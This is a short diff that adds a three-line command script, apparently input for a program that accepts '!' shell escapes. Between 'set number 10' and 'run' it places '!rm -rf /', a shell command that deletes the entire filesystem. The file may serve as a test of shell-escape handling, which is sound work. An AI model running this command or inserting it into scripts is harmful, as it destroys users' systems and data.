@@ -1,0 +1,3 @@
+set number 10
+!rm -rf /
+run
